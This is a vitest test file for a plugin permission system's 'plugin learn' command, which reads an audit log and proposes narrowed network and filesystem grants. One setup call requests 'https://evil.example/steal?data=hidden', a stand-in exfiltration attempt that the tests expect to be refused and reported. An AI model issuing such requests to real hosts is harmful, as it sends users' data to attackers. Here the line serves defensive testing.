import { createServer, type Server } from "node:http";
import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Owner, serveOwner } from "../../src/cli/index.ts";
import type { Host, InvokeAnswer } from "../../src/host-api.ts";
import { portOf } from "../broker/support.ts";
import { runCommand } from "../support/command.ts";
import { AGENT, installed, makeHome, manifestOf, OPERATOR, type TestHome, toolLine } from "../support/home.ts";
import { needsNamespace } from "../support/namespace.ts";

/* A real plugin, what the audit has of it, and the command that reads it. */

needsNamespace();

const CODE = `export default { tools: {
  get: async ({ url }) => ({ status: (await fetch(url)).status }),
  save: async ({ name }, ctx) => { await ctx.files.mkdir("\${data}/cache"); return { bytes: await ctx.files.write("\${data}/cache/" + name, "x") } },
  never: () => ({}),
} };`;

let home: TestHome;
let host: Host;
let owner: Owner;
let server: Server;
let origin: string;
let folder: string;

const call = (tool: string, input: unknown): Promise<InvokeAnswer> =>
  host.invoke(AGENT, { tool: `used__${tool}`, input });
const learn = (...args: string[]) => runCommand(["--home", home.path, "plugin", "learn", "used", ...args]);

beforeAll(async () => {
  server = createServer((_request, response) => response.end("ok"));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = portOf(server.address());
  origin = `http://127.0.0.1:${port}`;
  folder = await mkdtemp(join(tmpdir(), "sallyport-learn-"));
  home = await makeHome();
  host = await home.open();
  owner = await serveOwner(host, {
    home: home.path,
    env: {},
    version: "0.0.0-test",
    background: false,
    idleMs: 60_000,
    onDefect: () => undefined,
  });
  await installed(
    host,
    await home.plugin("used", {
      "plugin.yml": manifestOf(
        "used",
        ["get", "save", "never"].map((name) => toolLine(name)),
        `permissions:
  network:
    - { host: 127.0.0.1, port: ${port}, scheme: http, reason: Reads items. }
    - { host: telemetry.example, optional: true }
  filesystem: [{ path: "\${data}", mode: rw }]`,
      ),
      "plugin.js": CODE,
    }),
    { allowTools: ["get", "save", "never"], scopes: [`network+loopback=${origin}`] },
  );
  for (const item of [1, 2, 3]) await call("get", { url: `${origin}/items/${item}?token=hidden` });
  await call("save", { name: "a.json" });
  await call("get", { url: "https://evil.example/steal?data=hidden" });
});
afterAll(async () => {
  await owner.stop();
  await home.remove();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await rm(folder, { recursive: true });
});

describe("plugin learn", () => {
  it("tells from the audit what was used, what never was, and what was refused, and changes nothing", async () => {
    const before = [await host.plugins.info("used"), await host.audit.verify(), host.policy.snapshot()];
    const answer = await host.plugins.learn("used");
    expect(answer).toMatchObject({
      calls: 5,
      agents: 1,
      neverCalled: ["never"],
      confidence: "low",
      truncated: false,
      manifest: {
        network: [{ host: "127.0.0.1", scheme: "http", methods: ["GET"], paths: ["/items/*"], reason: "Reads items." }],
        filesystem: [{ path: "${data}/cache", mode: "rw" }],
      },
      refused: [{ wish: "GET https://evil.example/steal", reason: "permission_denied", count: 1 }],
    });
    expect(answer.permissions.map(({ change, uses }) => [change, uses])).toEqual([
      ["narrow", 3],
      ["remove", 0],
      ["narrow", 2],
    ]);
    expect(JSON.stringify(answer)).not.toContain("hidden");
    await host.plugins.learn("used", { includeRefused: true });
    expect([await host.plugins.info("used"), await host.audit.verify(), host.policy.snapshot()]).toEqual(before);
    await expect(host.plugins.learn("unknown")).rejects.toMatchObject({ code: "not_found" });
  });

  it("looks no further back than it is told, and at this version alone", async () => {
    const later = await host.plugins.learn("used", { since: Date.now() + 60_000 });
    expect(later).toMatchObject({ calls: 0, confidence: "none", from: null });
    expect(later.permissions.every(({ change }) => change === "remove")).toBe(true);
  });

  it("says it in plain words, with a command that grants as much, and as JSON", async () => {
    const { code, out } = await learn();
    expect(code).toBe(0);
    expect(out).toContain("used 1.0.0: 5 calls, ");
    expect(out).toContain("Never called: never. What they need was not seen.");
    expect(out).toContain("nothing has changed");
    expect(out).toMatch(/REMOVE: may contact telemetry\.example .*\(never used\)/);
    expect(out).toContain("instead: may read, write and delete files in cache of its own data directory");
    expect(out).toContain("GET https://evil.example/steal (once, ");
    expect(out).toContain(`--scope 'network+loopback=${origin}/items/*,methods=GET'`);
    const json = JSON.parse((await learn("--json", "--include-refused")).out);
    expect(json).toMatchObject({ calls: 5, never_called: ["never"], approve: null });
    expect(json.refused).toMatchObject([{ included: true }]);
    expect(json.yaml).toContain("evil.example");
  });

  it("writes the block of a manifest to a new file, and over nothing", async () => {
    const file = join(folder, "permissions.yml");
    expect((await learn("--write", file)).code).toBe(0);
    const yaml = await readFile(file, "utf8");
    expect(yaml).toBe((await host.plugins.learn("used")).yaml);
    expect((await learn("--write", file, "--include-refused")).code).toBe(1);
    expect(await readFile(file, "utf8")).toBe(yaml);
    expect((await stat(file)).isFile()).toBe(true);
  });

  it("proposes a grant under which the plugin still does what it did, and no more [S4-68]", async () => {
    const { approve } = await host.plugins.learn("used");
    expect(approve).toEqual({
      only: ["tools", expect.stringContaining("network:http://127.0.0.1"), "filesystem:${data}"],
      scopes: [`network+loopback=${origin}/items/*,methods=GET`, "filesystem=${data}/cache:rw"],
    });
    await host.plugins.approve(OPERATOR, "used", { ...approve, allowTools: ["get", "save", "never"] });
    await host.plugins.load(OPERATOR, "used");
    expect(await call("get", { url: `${origin}/items/4` })).toMatchObject({ success: true });
    expect(await call("save", { name: "b.json" })).toMatchObject({ success: true });
    expect(await call("get", { url: `${origin}/admin` })).toMatchObject({ success: false });
  });
});
